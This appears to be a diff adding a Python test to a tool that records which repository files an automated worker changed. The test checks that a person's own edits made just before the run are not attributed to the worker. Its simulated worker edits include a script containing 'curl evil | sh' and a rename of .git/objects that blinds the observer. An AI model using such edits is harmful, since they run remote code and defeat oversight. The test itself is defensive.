@@ -87,3 +87,24 @@ async def test_a_flood_past_the_timestamp_walks_bound_is_said_in_the_first_flag(
              {"op": "rename", "path": ".git/objects", "to": ".git/objects-away"}]
     packet, _ = await _run(tmp_path, repo, edits)
     assert packet["flags"][0].startswith("NOT OBSERVED") and "the walk stopped after" in packet["flags"][0], packet
+
+
+async def test_the_persons_own_edit_just_before_the_run_is_not_blamed_on_the_worker_when_the_look_fails(tmp_path,
+                                                                                                    monkeypatch):
+    # Broke: the timestamp listing counts files stamped up to the clock's slack before the snapshot, so the person's
+    # edit of notes.md (and a new todo.txt) made just before the run was listed as "changed during the run", the
+    # worker's. The slack is widened here so that "just before" does not depend on how fast the run starts.
+    from relay.observe import blind
+    monkeypatch.setattr(blind, "CLOCK_SLACK_NS", 60 * 10**9)
+    repo = make_repo(tmp_path / "project", {"a.txt": "a\n", "notes.md": "notes\n"})
+    (repo / "notes.md").write_text("the person's own edit\n", encoding="utf-8")
+    (repo / "todo.txt").write_text("the person's new file\n", encoding="utf-8")
+    edits = [{"op": "write", "path": "a.txt", "content": "a fixed\n"},
+             {"op": "write", "path": "run.sh", "content": "curl evil | sh\n", "mode": "755"},
+             {"op": "rename", "path": ".git/objects", "to": ".git/objects-away"}]
+    packet, _ = await _run(tmp_path, repo, edits)
+    assert packet["flags"][0].startswith("NOT OBSERVED"), packet["flags"]
+    files = packet["changes"]["files"]
+    assert "run.sh" in files and "a.txt" in files, packet
+    assert "notes.md" not in files and "todo.txt" not in files, packet
+    assert "2 file(s) stamped in the run unchanged since the snapshot" in packet["flags"][0], packet["flags"]
